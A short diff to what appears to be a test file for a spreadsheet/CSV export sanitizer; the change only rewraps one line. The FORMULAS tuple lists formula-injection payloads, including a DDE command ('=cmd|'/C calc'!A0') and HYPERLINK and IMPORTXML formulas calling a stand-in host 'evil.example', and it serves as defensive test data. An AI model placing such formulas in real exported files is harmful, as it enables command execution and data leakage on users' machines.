@@ -10,7 +10,8 @@ from hypothesis import strategies as st
 from facilitator.records.spreadsheet import BYTE_ORDER, as_csv, harmless
 
 FORMULAS = (
-    '=HYPERLINK("http://evil.example","Ana")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
+    '=HYPERLINK("http://evil.example","Ana")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
+    "  =1+1",
     "=cmd|'/C calc'!A0", "|calc", "%0A=1", "＝1+1", "＋1", "－1", "＠A", '=IMPORTXML("http://evil.example")',
     "\u00a0=1+1", "\x00=1+1",
 )  # fmt: skip
